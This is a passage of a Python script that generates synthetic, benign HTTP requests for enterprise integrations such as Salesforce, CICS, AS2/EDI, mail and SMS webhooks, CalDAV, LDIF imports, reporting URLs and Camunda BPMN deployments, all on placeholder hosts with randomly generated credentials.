def b_salesforce(c):
    r = rng("b_salesforce")
    add = B(c, "salesforce", "salesforce")
    host = "corp.my.salesforce.example"
    def sfh(ct=None):
        h = [["User-Agent", r.choice(["simple-salesforce/1.12.5", "Jitterbit/10.60", "MuleSoft Salesforce Connector/10.18.0",
                                        "sfdx-cli/7.209.6 (linux-x64) node-v18.17.1", "Dataloader/59.0.0", "Boomi/1.0"])],
             ["Authorization", "Bearer 00D%s!%s" % (ralnum(r, 15), ralnum(r, 96, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._"))],
             ["Accept", "application/json"], ["Sforce-Call-Options", "client=%s" % r.choice(["CorpIntegration", "SAPBridge"])]]
        if ct:
            h.append(["Content-Type", ct])
        return h
    ids = lambda p: p + ralnum(r, 12) + ralnum(r, 3, "ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    for i in range(8):
        add("GET", r.choice(["/services/data/v59.0/sobjects/Account/%s" % ids("001"),
                             "/services/data/v59.0/sobjects/Contact/%s?fields=Id,FirstName,LastName,Email" % ids("003"),
                             "/services/data/v59.0/sobjects/Account/describe", "/services/data/v59.0/limits",
                             "/services/apexrest/v1/Cases/%s" % ids("500"),
                             "/services/apexrest/v1/orders?status=Activated&since=%s" % q(iso_ts(r)),
                             "/services/data/v59.0/sobjects/Opportunity/updated/?start=%s&end=%s" % (q(iso_ts(r)), q(iso_ts(r))),
                             "/services/data/v59.0/query/01g%s-2000" % ralnum(r, 15)]), sfh(), host=host)
    for i in range(10):
        first, last = person(r)
        kind = i % 4
        if kind == 0:
            body = json.dumps({"FirstName": first, "LastName": last, "Email": email_of(first, last, "partner.example"),
                               "Description": "Met at Sapphire; interested in S/4 migration & EDI onboarding (X12 850/856).",
                               "AccountId": ids("001")}, ensure_ascii=False)
            add("POST", "/services/data/v59.0/sobjects/Contact/", sfh("application/json"), body, host=host)
        elif kind == 1:
            body = json.dumps({"StageName": r.choice(["Closed Won", "Negotiation/Review"]), "Amount": r.randint(1000, 900000),
                               "NextStep": "Send revised quote (-5% on services) by Fri"}, ensure_ascii=False)
            add("PATCH", "/services/data/v59.0/sobjects/Opportunity/%s" % ids("006"), sfh("application/json"), body, host=host)
        elif kind == 2:
            body = json.dumps({"allOrNone": True, "compositeRequest": [
                {"method": "POST", "url": "/services/data/v59.0/sobjects/Account", "referenceId": "refAccount",
                 "body": {"Name": r.choice(COMPANIES), "BillingCity": r.choice(CITIES)}},
                {"method": "POST", "url": "/services/data/v59.0/sobjects/Contact", "referenceId": "refContact",
                 "body": {"LastName": last, "FirstName": first, "AccountId": "@{refAccount.id}"}},
                {"method": "GET", "url": "/services/data/v59.0/sobjects/Account/@{refAccount.id}?fields=Name,Id", "referenceId": "refGet"}]},
                ensure_ascii=False)
            add("POST", "/services/data/v59.0/composite", sfh("application/json"), body, host=host)
        else:
            body = json.dumps({"caseNumber": "%08d" % r.randint(1, 99999999), "subject": r.choice(["Can't submit PO – error \"INVALID_FIELD\"", "Shipment delayed >3 days", "Portal login loop (SSO)"]),
                               "priority": "High", "contactEmail": email_of(first, last, "customer.example")}, ensure_ascii=False)
            add("POST", "/services/apexrest/v1/Cases", sfh("application/json"), body, host=host)
    # Bulk API 2.0 CSV upload
    for i in range(4):
        rows = ["Name,BillingStreet,BillingCity,Phone,AnnualRevenue,Description"]
        for _ in range(r.randint(3, 8)):
            comp = r.choice(COMPANIES)
            rows.append('"%s","%d %s","%s","%s",%d,"%s"' % (comp.replace('"', '""'), r.randint(1, 300), r.choice(["Main St.", "Hauptstraße", "1st Ave, Suite #200"]),
                                                            r.choice(CITIES), "+49 6227 7-%05d" % r.randint(0, 99999) if r.random() < 0.5 else "(212) 555-%04d" % r.randint(0, 9999),
                                                            r.randint(10 ** 5, 10 ** 9), r.choice(["Key account; 2 sites", "Distributor – EMEA", "Prospect (trade fair)", ""])))
        add("PUT", "/services/data/v59.0/jobs/ingest/750%s/batches" % ralnum(r, 15), sfh("text/csv"), "\n".join(rows) + "\n", host=host)
    for i in range(2):
        body = form([("grant_type", "password"), ("client_id", "3MVG9" + ralnum(r, 80)), ("client_secret", rHEX(r, 64)),
                     ("username", "integration@corp.example"), ("password", ralnum(r, 14) + ralnum(r, 25))])
        add("POST", "/services/oauth2/token", [["User-Agent", "Jitterbit/10.60"], ["Content-Type", "application/x-www-form-urlencoded"], ["Accept", "application/json"]], body, host="login.salesforce.example")


def b_cics(c):
    r = rng("b_cics")
    add = B(c, "mainframe", "cics")
    host = "zgw.corp.example"
    for i in range(15):
        kind = i % 4
        acct = "%010d" % r.randint(1, 9999999999)
        name = r.choice(["SMITH JOHN", "MUELLER ANNA", "OBRIEN PATRICK", "GARCIA LOPEZ M"])
        if kind == 0:
            # fixed-width COMMAREA in a form post (space padded)
            commarea = "INQ1" + acct + name.ljust(30) + "EUR" + "%015d" % r.randint(0, 10 ** 9) + " " * 20
            body = form([("PROGRAM", "ACCTINQ"), ("TRANSID", "AINQ"), ("COMMAREA", commarea)])
            add("POST", "/CICS/CWBA/DFHWBTTA/AINQ", [["User-Agent", "Java/1.8.0_361"], ["Content-Type", "application/x-www-form-urlencoded"]], body, host=host)
        elif kind == 1:
            # EBCDIC bytes shipped hex-encoded
            ebc = "".join("%02X" % b for b in (name.ljust(30) + acct).encode("cp037"))
            add("GET", "/cics/cwba/custinq?DATA=%s&CCSID=037&LEN=%d" % (ebc, 40), [["User-Agent", "CTG/9.2"], ["Accept", "*/*"]], host=host)
        elif kind == 2:
            body = json.dumps({"DFHCOMMAREA": {"CUST_ACCT_NO": acct, "CUST_NAME": name.ljust(30), "CUST_ADDR_LINE1": ("%d MAIN ST" % r.randint(1, 999)).ljust(40),
                                               "CUST_BAL": "+%013d.%02d" % (r.randint(0, 10 ** 6), r.randint(0, 99)), "FILLER": " " * 12, "RESP_CODE": "00"}})
            add("POST", "/zosConnect/services/custInquiry?action=invoke", [["User-Agent", "okhttp/4.11.0"], ["Content-Type", "application/json"],
                                                                           ["Authorization", "Basic " + b64("ZCEEUSR:" + ralnum(r, 8))]], body, host=host)
        else:
            # 3270 bridge screen post: field positions
            body = form([("SCREEN", "CUSTMNT"), ("CURSOR", "0%d" % r.randint(100, 1900)), ("AID", r.choice(["ENTER", "PF3", "PF8", "CLEAR"])),
                         ("F0080", "A"), ("F0162", acct), ("F0242", name.ljust(30)), ("F0402", "    "), ("F1842", "")])
            add("POST", "/hostbridge/3270/session/%s" % rHEX(r, 12), [["User-Agent", r.choice(UA_BROWSERS)], ["Content-Type", "application/x-www-form-urlencoded"],
                                                                      ["Cookie", "HB_SESSION=" + rHEX(r, 24)]], body, host=host)


def b_edi(c):
    r = rng("b_edi")
    add = B(c, "edi", "as2")
    host = "as2.corp.example"
    for i in range(22):
        kind = i % 5
        po = "PO%07d" % r.randint(1, 9999999)
        if kind == 0:
            add("POST", "/as2/receive", as2_headers(r, "application/edi-x12"), x12_850(r, po, r.randint(1, 5)), host=host)
        elif kind == 1:
            add("POST", "/as2/receive", as2_headers(r, "application/EDIFACT"), edifact_orders(r, po, r.choice([None, "BITTE LIEFERUNG AN TOR 3?+ RAMPE B", "CALL 30 MIN BEFORE ARRIVAL?'"])), host=host)
        elif kind == 2:
            # S/MIME enveloped: opaque base64
            h = as2_headers(r, 'application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"',
                            extra=[("Content-Transfer-Encoding", "base64"), ("Content-Disposition", 'attachment; filename="smime.p7m"')])
            add("POST", "/as2/receive", h, wrap(b64(b"\x30\x82" + rbytes(r, r.choice([900, 1500, 2400]))), 76) + "\r\n", host=host)
        elif kind == 3:
            # signed: multipart/signed with the payload and a detached pkcs7 signature
            bnd = "----=_Part_%d_%d.%d" % (r.randint(1, 999), r.randint(10 ** 8, 10 ** 9), r.randint(10 ** 12, 10 ** 13))
            payload = x12_850(r, po, 2) if r.random() < 0.5 else edifact_orders(r, po)
            ct = "application/edi-x12" if payload.startswith("ISA") else "application/EDIFACT"
            body = multipart([([("Content-Type", ct), ("Content-Transfer-Encoding", "binary"),
                                ("Content-Disposition", "attachment; filename=%s.edi" % po)], payload.replace("\n", "\r\n")),
                              ([("Content-Type", 'application/pkcs7-signature; name=smime.p7s'), ("Content-Transfer-Encoding", "base64"),
                                ("Content-Disposition", "attachment; filename=smime.p7s")], wrap(b64(b"\x30\x82" + rbytes(r, 1200)), 76))], bnd)
            h = as2_headers(r, 'multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="%s"' % bnd)
            add("POST", "/as2/receive", h, body, host=host)
        else:
            # asynchronous MDN coming back
            bnd = "----=_Part_%d" % r.randint(10 ** 5, 10 ** 6)
            mic = b64(rbytes(r, 32))
            report = crlf("Reporting-UA: OpenAS2 Server\nOriginal-Recipient: rfc822; CORPSUPPLIER\nFinal-Recipient: rfc822; CORPSUPPLIER\n"
                          "Original-Message-ID: <%s@corpsupplier>\nDisposition: automatic-action/MDN-sent-automatically; processed\n"
                          "Received-Content-MIC: %s, sha-256\n" % (ralnum(r, 28), mic))
            body = multipart([([("Content-Type", "text/plain")], "The AS2 message has been received. Thank you for exchanging AS2 messages with OpenAS2."),
                              ([("Content-Type", "message/disposition-notification")], report)], bnd)
            add("POST", "/as2/mdn", as2_headers(r, 'multipart/report; report-type=disposition-notification; boundary="%s"' % bnd, frm="PARTNER_AS2"), body, host=host)


def b_mail(c):
    r = rng("b_mail")
    add = B(c, "mail", "inbound")
    host = "hooks.corp.example"
    for i in range(36):
        first, last = person(r)
        sf, sl = person(r)
        sender = "%s %s" % (sf, sl)
        addr = email_of(sf, sl, r.choice(["gmail.com", "partner.example", "fabrikam.de", "contoso.com"]))
        frm = '"%s" <%s>' % (sender, addr) if "'" in sender or "," in sender else "%s <%s>" % (sender, addr)
        to = r.choice(["tickets@inbound.corp.example", "ap-invoices@inbound.corp.example", "orders@inbound.corp.example"])
        subject = r.choice(MAIL_SUBJECTS)
        text = r.choice(MAIL_TEXTS).format(first=first, sender=sender, date="%02d/%02d/2024" % (r.randint(1, 12), r.randint(1, 28)),
                                           company=r.choice(COMPANIES), addr=addr, num=r.randint(1000, 99999))
        html = mail_html(r, text, marketing=(i % 5 == 4)) if r.random() < 0.85 else None
        if i % 3 == 2:
            body, h = mailgun_inbound(r, frm, to, subject, text, html)
            add("POST", "/hooks/mailgun/inbound", h, body, host=host)
        else:
            att = ()
            if i % 4 == 0:
                att = (r.choice([("invoice_%d.pdf" % r.randint(1, 9999), "application/pdf", "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"),
                                 ("remittance.csv", "text/csv", "Invoice;Date;Amount;Currency\nINV-%d;2024-01-11;1.234,50;EUR\nINV-%d;2024-01-12;-120,00;EUR\n" % (r.randint(1, 9999), r.randint(1, 9999))),
                                 ("Besprechung.ics", "text/calendar", vevent(r, "Abstimmung Lieferplan", "Agenda:\n1) Rückstände\n2) Forecast Q2", "Raum 3.14 / Teams")),
                                 ("export_utf16.txt", "text/plain; charset=utf-16", b64(("\ufeffMaterial\tMenge\tWerk\r\nSchraube M8\t500\t1010\r\n").encode("utf-16-le")))]),)
                if att[0][0] == "export_utf16.txt":
                    att = ()
                    text += "\n\n(export attached as UTF-16 text)"
            body, h = sendgrid_inbound(r, frm, to, subject, text, html, att)
            add("POST", "/hooks/sendgrid/inbound", h, body, host=host)
    # SendGrid "send raw" mode: full MIME message in `email`, with QP and base64 parts
    for i in range(6):
        sf, sl = person(r)
        addr = email_of(sf, sl, "partner.example")
        qp_body = "Hallo Team,=0A=0Adie Lieferung f=C3=BCr PO 4500%06d kommt am Montag.=0A=0AGr=C3=BC=C3=9Fe=0A%s" % (r.randint(0, 999999), sf)
        html = "<p>Hallo Team,</p><p>die Lieferung f&uuml;r <b>PO 4500%06d</b> kommt am Montag.</p>" % r.randint(0, 999999)
        bnd = "000000000000" + rhex(r, 16)
        raw = crlf(mail_headers_block(r, "%s %s <%s>" % (sf, sl, addr), "orders@inbound.corp.example", "=?UTF-8?Q?Lieferung_f=C3=BCr_PO?=")
                   + "\n--%s\nContent-Type: text/plain; charset=\"UTF-8\"\nContent-Transfer-Encoding: quoted-printable\n\n%s\n"
                   "--%s\nContent-Type: text/html; charset=\"UTF-8\"\nContent-Transfer-Encoding: base64\n\n%s\n--%s--\n"
                   % (bnd, qp_body.replace("=0A", "\n"), bnd, wrap(b64(html), 76, "\n"), bnd))
        parts = [fd_field("dkim", "{@partner.example : pass}"), fd_field("email", raw), fd_field("to", "orders@inbound.corp.example"),
                 fd_field("from", addr), fd_field("sender_ip", "198.51.100.%d" % r.randint(1, 254)), fd_field("envelope", json.dumps({"to": ["orders@inbound.corp.example"], "from": addr})),
                 fd_field("subject", "Lieferung für PO"), fd_field("charsets", json.dumps({"to": "UTF-8", "subject": "UTF-8", "from": "UTF-8"})), fd_field("SPF", "pass")]
        add("POST", "/hooks/sendgrid/inbound-raw", [["User-Agent", "Sendlib/1.0 mx0047p1las1.sendgrid.net"], ["Content-Type", "multipart/form-data; boundary=xYzZY"]],
            multipart(parts, "xYzZY"), host=host)
    # delivery event webhooks
    for i in range(4):
        events = [{"email": email_of(*person(r), "customer.example"), "timestamp": 1704980000 + r.randint(0, 9999), "event": r.choice(["delivered", "open", "click", "bounce"]),
                   "sg_event_id": b64url(rbytes(r, 16)), "sg_message_id": "%s.filterdrecv-%d.%d" % (ralnum(r, 22), r.randint(1, 99), r.randint(1, 9)),
                   "url": "https://portal.corp.example/invoices/INV-%d?utm_source=mail&utm_campaign=dunning" % r.randint(1, 9999),
                   "useragent": r.choice(UA_BROWSERS), "ip": "203.0.113.%d" % r.randint(1, 254)} for _ in range(r.randint(1, 3))]
        add("POST", "/hooks/sendgrid/events", [["User-Agent", "SendGrid Event API"], ["Content-Type", "application/json"],
                                               ["X-Twilio-Email-Event-Webhook-Signature", b64(rbytes(r, 70))],
                                               ["X-Twilio-Email-Event-Webhook-Timestamp", str(1704980000 + r.randint(0, 9999))]],
            json.dumps(events), host=host)


def b_twilio(c):
    r = rng("b_twilio")
    add = B(c, "sms", "twilio")
    host = "hooks.corp.example"
    smsbodies = ["STOP", "YES", "Y", "1", "Yes I'll be there at 3pm", "Can you reschedule? I'm free Tue/Thu after 2",
                 "Is order #45210 shipped yet?", "Ok :)", "<3 thanks!!", "I'm at 5th & Main, gate is locked", "HELP",
                 "Running 10 min late – traffic on I-85", "Confirm", "No, wrong number", "👍", "Where do I drop off the return? (RMA 7731)",
                 "Code: 482913", "Pls call me back @ 555-0142", "2", "C", "Reply from site: pump P-101 running again; closed WO 4711.",
                 "can u send the invoice again? the link says 'expired'", "Hola, ¿tienen horario el sábado?", "Quiero cancelar mi cita"]
    for i in range(16):
        body, h = twilio_sms(r, r.choice(smsbodies), num_media=1 if i % 7 == 3 else 0)
        add("POST", "/hooks/twilio/sms" + r.choice(["", "?tenant=emea", "?bot=appointments"]), h, body, host=host)
    for i in range(12):
        kind = i % 4
        if kind == 0:
            body, h = twilio_voice(r, "ringing")
        elif kind == 1:
            body, h = twilio_voice(r, "in-progress", [("Digits", r.choice(["1", "2", "4711#", "0", "123456#", "*"])), ("FinishedOnKey", "#"), ("msg", "Gather End")])
        elif kind == 2:
            body, h = twilio_voice(r, "in-progress", [("SpeechResult", r.choice(["I'd like to check my order status", "billing question", "talk to an agent please", "reschedule my appointment to Friday"])),
                                                      ("Confidence", "0.%d" % r.randint(60, 99)), ("Language", "en-US")])
        else:
            body, h = twilio_voice(r, "completed", [("CallDuration", str(r.randint(5, 900))), ("RecordingUrl", "https://api.twilio.com/2010-04-01/Accounts/AC%s/Recordings/RE%s" % (rhex(r, 32), rhex(r, 32))),
                                                    ("RecordingSid", "RE" + rhex(r, 32)), ("RecordingDuration", str(r.randint(5, 300)))])
        add("POST", "/hooks/twilio/voice/" + r.choice(["incoming", "gather", "status"]), h, body, host=host)
    for i in range(3):
        pairs = [("SmsSid", "SM" + rhex(r, 32)), ("SmsStatus", r.choice(["sent", "delivered", "undelivered"])), ("MessageStatus", "delivered"),
                 ("To", phone_us(r)), ("MessageSid", "SM" + rhex(r, 32)), ("AccountSid", "AC" + rhex(r, 32)), ("From", phone_us(r)), ("ApiVersion", "2010-04-01")]
        if i == 2:
            pairs += [("ErrorCode", "30003"), ("ErrorMessage", "Unreachable destination handset")]
        add("POST", "/hooks/twilio/status", twilio_headers(r), form(pairs), host=host)


def b_calendar(c):
    r = rng("b_calendar")
    add = B(c, "calendar", "caldav")
    host = "dav.corp.example"
    summaries = ["Weekly sync – S/4 cut-over", "1:1 Anna / Jürgen", "Vendor review: O'Hara Logistics", "Quarterly close (Q1) – Finance",
                 "Offsite planning (Lyon)", "Interview: Sr. ABAP Dev", "Budget 2025 – R&D", "Kick-off EDI onboarding (X12 850/855/856)"]
    descs = ["Agenda:\n1) Status\n2) Risks & issues\n3) AOB\n\nJoin Microsoft Teams Meeting: https://teams.microsoft.com/l/meetup-join/19%3ameeting_" + "N2Y" + "abc@thread.v2/0?context=%7b%22Tid%22%3a%22" + "72f9" + "%22%7d",
             "Please bring the latest numbers (v3, not v2!).",
             "Dial-in: +1 646-558-8656,,%d# ; Passcode: %d" % (r.randint(10 ** 9, 10 ** 10), r.randint(100000, 999999)),
             "Room 3.14 (the one with the broken projector -> use HDMI cable on the left)",
             "Zoom: https://corp.zoom.us/j/%d?pwd=%s" % (r.randint(10 ** 9, 10 ** 10), ralnum(r, 32))]
    for i in range(12):
        first, last = person(r)
        extra = []
        if r.random() < 0.4:
            extra.append('X-ALT-DESC;FMTTYPE=text/html:<html><body><p>Hi all,</p><p>see <a href="https://wiki.corp.example/display/FIN/Close+Q1">wiki</a> &amp; the deck.</p></body></html>')
        if r.random() < 0.3:
            extra.append("RRULE:FREQ=WEEKLY;BYDAY=MO,WE;UNTIL=20240630T220000Z")
        ics = vevent(r, r.choice(summaries), r.choice(descs), r.choice(["Teams", "Raum 3.14", "Bldg 7, 2nd fl. (Conf. \"Matterhorn\")", "Lyon, 12 Rue de la République"]),
                     [("%s, %s" % (last, first), email_of(first, last)), ("%s %s" % person(r), email_of(*person(r)))],
                     extra, organizer=("%s %s" % (first, last), email_of(first, last)))
        h = [["User-Agent", r.choice(CALDAV_CLIENTS)], ["Content-Type", "text/calendar; charset=utf-8"],
             ["If-None-Match", "*"], ["Authorization", "Basic " + b64("%s:%s" % (email_of(first, last), ralnum(r, 16)))]]
        add("PUT", "/calendars/%s/calendar/%s.ics" % (q(email_of(first, last)), ruuid(r)), h, ics, host=host)
    for i in range(7):
        kind = i % 3
        if kind == 0:
            body = ('<?xml version="1.0" encoding="utf-8" ?>\n<C:calendar-query xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav">'
                    '<D:prop><D:getetag/><C:calendar-data/></D:prop><C:filter><C:comp-filter name="VCALENDAR"><C:comp-filter name="VEVENT">'
                    '<C:time-range start="2024%02d01T000000Z" end="2024%02d28T000000Z"/></C:comp-filter></C:comp-filter></C:filter></C:calendar-query>' % (r.randint(1, 6), r.randint(7, 12)))
            method = "REPORT"
        elif kind == 1:
            hrefs = "".join("<D:href>/calendars/jdoe/calendar/%s.ics</D:href>" % ruuid(r) for _ in range(r.randint(2, 5)))
            body = ('<?xml version="1.0" encoding="UTF-8"?><C:calendar-multiget xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav">'
                    '<D:prop><D:getetag/><C:calendar-data/></D:prop>%s</C:calendar-multiget>' % hrefs)
            method = "REPORT"
        else:
            body = ('<?xml version="1.0" encoding="UTF-8"?><d:propfind xmlns:d="DAV:" xmlns:cs="http://calendarserver.org/ns/" xmlns:c="urn:ietf:params:xml:ns:caldav">'
                    '<d:prop><d:resourcetype/><d:displayname/><cs:getctag/><c:supported-calendar-component-set/><d:sync-token/></d:prop></d:propfind>')
            method = "PROPFIND"
        h = [["User-Agent", r.choice(CALDAV_CLIENTS)], ["Content-Type", "application/xml; charset=utf-8"], ["Depth", "1"],
             ["Authorization", "Basic " + b64("jdoe:" + ralnum(r, 16))]]
        add(method, "/calendars/jdoe/calendar/", h, body, host=host)
    # ICS import through the web UI
    for i in range(4):
        bnd = boundary_webkit(r)
        ics = vevent(r, r.choice(summaries), r.choice(descs), "Teams")
        body = multipart([fd_file("file", r.choice(["invite.ics", "Besprechung.ics", "holidays_2024.ics"]), "text/calendar", ics), fd_field("calendar", "default")], bnd)
        h = browser(r, accept="application/json", ajax=True, cookie=jsession(r))
        h.append(["Content-Type", "multipart/form-data; boundary=" + bnd])
        add("POST", "/calendar/import", h, body, host="portal.corp.example")


def b_contacts(c):
    r = rng("b_contacts")
    add = B(c, "contacts", "vcard-ldif")
    for i in range(9):
        first, last = person(r)
        card = vcard(r, first, last, r.choice(COMPANIES), r.choice(["Head of Procurement", "Sr. Buyer – EMEA", "VP, R&D", "Account Exec (Mid-Market)"]),
                     r.choice(["", "Met at Hannover Messe, hall 7 booth C12", "Prefers calls after 2pm CET; assistant: M. O'Neil", "Don't e-mail invoices – use portal"]),
                     ["PHOTO;ENCODING=b;TYPE=JPEG:" + b64(b"\xff\xd8\xff\xe0\x00\x10JFIF" + rbytes(r, 120))] if i % 3 == 0 else [])
        if i % 2 == 0:
            add("PUT", "/addressbooks/jdoe/contacts/%s.vcf" % ruuid(r), [["User-Agent", r.choice(CALDAV_CLIENTS)], ["Content-Type", "text/vcard; charset=utf-8"],
                                                                          ["If-None-Match", "*"]], card, host="dav.corp.example")
        else:
            bnd = boundary_webkit(r)
            body = multipart([fd_file("vcf", "%s %s.vcf" % (first, last), "text/x-vcard", card), fd_field("addressBook", "Suppliers")], bnd)
            h = browser(r, cookie=aspnet_cookie(r), accept="application/json")
            h.append(["Content-Type", "multipart/form-data; boundary=" + bnd])
            add("POST", "/crm/contacts/import", h, body, host="intranet.corp.example")
    for i in range(6):
        entries = []
        for _ in range(r.randint(2, 4)):
            first, last = person(r)
            uid = email_of(first, last).split("@")[0]
            entries.append(("dn: cn=%s %s,ou=People,ou=%s,dc=corp,dc=example\nchangetype: add\nobjectClass: top\nobjectClass: person\n"
                            "objectClass: organizationalPerson\nobjectClass: inetOrgPerson\ncn: %s %s\nsn: %s\ngivenName: %s\nuid: %s\n"
                            "mail: %s\ntelephoneNumber: +49 6227 7-%05d\nou: %s\ntitle: %s\n")
                           % (first, last, r.choice(["EMEA", "Americas"]), first, last, last, first, uid, email_of(first, last), r.randint(0, 99999),
                              r.choice(DEPTS), r.choice(["Buyer", "Engineer II", "Manager, Finance & Controlling"])))
            if not (first + last).isascii():
                entries[-1] = entries[-1].replace("cn: %s %s\n" % (first, last), "cn:: %s\n" % b64("%s %s" % (first, last)))
        ldif = "version: 1\n\n" + "\n".join(entries)
        bnd = boundary_webkit(r)
        body = multipart([fd_file("ldif", "import_%d.ldif" % r.randint(1, 99), "application/octet-stream", ldif), fd_field("dryRun", "true")], bnd)
        h = browser(r, cookie=jsession(r), accept="application/json")
        h.append(["Content-Type", "multipart/form-data; boundary=" + bnd])
        add("POST", "/idm/admin/import", h, body, host="idm.corp.example")


def b_directory(c):
    r = rng("b_directory")
    add = B(c, "directory", "lookup")
    for i in range(10):
        first, last = person(r)
        term = r.choice([last, first, "%s %s" % (first, last), last[:3] + "*", "%s, %s" % (last, first), "ext 4711", "%s (Contractor)" % last])
        add("GET", r.choice(["/directory/search.aspx?q=%s&dept=%s" % (qp(term), qp(r.choice(DEPTS))),
                             "/api/people?search=%s&top=20" % euc(term),
                             "/idm/api/users?cn=%s&attrs=mail,telephoneNumber,manager" % q(term)]),
            browser(r, cookie=aspnet_cookie(r), accept="application/json", ajax=True), host="intranet.corp.example")


def b_reporting(c):
    r = rng("b_reporting")
    add = B(c, "reporting", "reports")
    for i in range(24):
        kind = i % 5
        region = r.choice(["EMEA", "North America", "APJ", "DACH & Nordics"])
        if kind == 0:
            path = r.choice(["/Finance/Monthly Sales", "/Sales/Pipeline by Region", "/HR/Headcount (YTD)", "/Ops/OEE – Plant 1010", "/Procurement/Spend by Vendor"])
            u = "/ReportServer?%s&rs:Command=Render&rs:Format=%s&StartDate=2024-%02d-01&EndDate=2024-%02d-28&Region=%s&CostCenter=%d&rc:Toolbar=%s" % (
                q(path, safe="/").replace("/", "%2f"), r.choice(["PDF", "EXCELOPENXML", "CSV", "HTML5", "WORDOPENXML"]),
                r.randint(1, 6), r.randint(6, 12), qp(region), r.randint(1000, 9999), r.choice(["true", "false"]))
            add("GET", u, browser(r, cookie=aspnet_cookie(r, False)), host="reports.corp.example")
        elif kind == 1:
            u = "/Reports/report%s?Region=%s&Vendor=%s&rs:embed=true" % (q(r.choice(["/Finance/Monthly Sales", "/Procurement/Spend by Vendor"])), qp(region), qp(r.choice(COMPANIES)))
            add("GET", u, browser(r, cookie=aspnet_cookie(r, False)), host="reports.corp.example")
        elif kind == 2:
            u = "/BOE/OpenDocument/opendoc/openDocument.jsp?sIDType=CUID&iDocID=%s&sRefresh=Y&lsSRegion=%s&lsMDates=%s&sOutputFormat=%s" % (
                ralnum(r, 23), qp(region), qp("[2024-01-01],[2024-03-31]"), r.choice(["H", "P", "E"]))
            add("GET", u, browser(r, cookie=jsession(r)), host="bi.corp.example")
        elif kind == 3:
            u = "/CrystalReports/viewrpt.cwr?id=%d&apstoken=%s&cmd=EXPORT&EXPORT_FMT=%s&prompt0=%s&promptex-Region=%s&promptex-Customer=%s" % (
                r.randint(1000, 99999), q("BOE01:6400@" + ralnum(r, 40)), r.choice(["U2FPDF:0", "U2FXLS:4", "U2FCR:0"]),
                q("Date(2024,%d,%d)" % (r.randint(1, 12), r.randint(1, 28))), q('"%s"' % region), q('"%s"' % r.choice(COMPANIES)))
            add("GET", u, browser(r), host="bi.corp.example")
        else:
            body = json.dumps({"reportPath": r.choice(["/Finance/Monthly Sales", "/HR/Headcount (YTD)"]), "format": "PDF",
                               "parameters": [{"name": "Region", "value": region}, {"name": "Dept", "value": r.choice(DEPTS)},
                                              {"name": "AsOf", "value": "2024-%02d-%02d" % (r.randint(1, 12), r.randint(1, 28))}],
                               "subscription": {"to": email_of(*person(r)), "schedule": "0 6 * * MON-FRI", "subject": "@ReportName executed at @ExecutionTime"}},
                              ensure_ascii=False)
            h = browser(r, accept="application/json", ajax=True, cookie=aspnet_cookie(r))
            h.append(["Content-Type", "application/json"])
            add("POST", "/reports/api/v2.0/Subscriptions", h, body, host="reports.corp.example")


BPMN_TMPL = '''<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:camunda="http://camunda.org/schema/1.0/bpmn" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" id="Definitions_%(id)s" targetNamespace="http://bpmn.io/schema/bpmn" exporter="Camunda Modeler" exporterVersion="5.19.0">
  <bpmn:process id="%(key)s" name="%(name)s" isExecutable="true" camunda:historyTimeToLive="180">
    <bpmn:startEvent id="StartEvent_1" camunda:initiator="initiator"><bpmn:outgoing>Flow_1</bpmn:outgoing></bpmn:startEvent>
    <bpmn:userTask id="Task_Approve" name="Approve %(name)s" camunda:assignee="${initiator}" camunda:candidateGroups="%(group)s" camunda:dueDate="${dateTime().plusDays(3).toDate()}">
      <bpmn:extensionElements><camunda:formData><camunda:formField id="approved" label="Approved?" type="boolean" /><camunda:formField id="comment" label="Comment" type="string" /></camunda:formData></bpmn:extensionElements>
    </bpmn:userTask>
    <bpmn:exclusiveGateway id="Gateway_1" name="Amount &gt; %(limit)d?" />
    <bpmn:sequenceFlow id="Flow_high" sourceRef="Gateway_1" targetRef="Task_Approve"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${amount &gt; %(limit)d}</bpmn:conditionExpression></bpmn:sequenceFlow>
    <bpmn:sequenceFlow id="Flow_low" sourceRef="Gateway_1" targetRef="Task_Book"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${amount &lt;= %(limit)d &amp;&amp; !escalated}</bpmn:conditionExpression></bpmn:sequenceFlow>
    <bpmn:serviceTask id="Task_Book" name="Book in ERP" camunda:type="external" camunda:topic="erp-booking" />
    <bpmn:serviceTask id="Task_Notify" name="Notify" camunda:delegateExpression="${notificationDelegate}"><bpmn:extensionElements><camunda:inputOutput><camunda:inputParameter name="recipient">${execution.getVariable("initiator")}</camunda:inputParameter><camunda:inputParameter name="subject">%(name)s ${businessKey} approved</camunda:inputParameter></camunda:inputOutput></bpmn:extensionElements></bpmn:serviceTask>
    <bpmn:boundaryEvent id="Timer_Escalate" attachedToRef="Task_Approve"><bpmn:timerEventDefinition><bpmn:timeDuration xsi:type="bpmn:tFormalExpression">P%(days)dD</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:boundaryEvent>
    <bpmn:endEvent id="EndEvent_1" />
  </bpmn:process>
</bpmn:definitions>
'''


def b_bpm(c):
    r = rng("b_bpm")
    add = B(c, "bpm", "camunda")
    host = "bpm.corp.example"
    def ch(ct="application/json"):
        return [["User-Agent", r.choice(["Camunda Modeler/5.19.0", "camunda-external-task-client-js/3.1.0", r.choice(UA_BROWSERS), "okhttp/4.12.0"])],
                ["Content-Type", ct], ["Accept", "application/json"], ["Authorization", "Basic " + b64("demo:" + ralnum(r, 12))]]
    for i in range(6):
        bnd = boundary_webkit(r)
        name = r.choice(["Invoice", "Travel Expense", "Purchase Requisition", "Vendor Onboarding"])
        bpmn = BPMN_TMPL % {"id": ralnum(r, 7), "key": name.lower().replace(" ", "-"), "name": name, "group": r.choice(["accounting", "management", "procurement"]),
                            "limit": r.choice([500, 1000, 5000, 10000]), "days": r.randint(1, 7)}
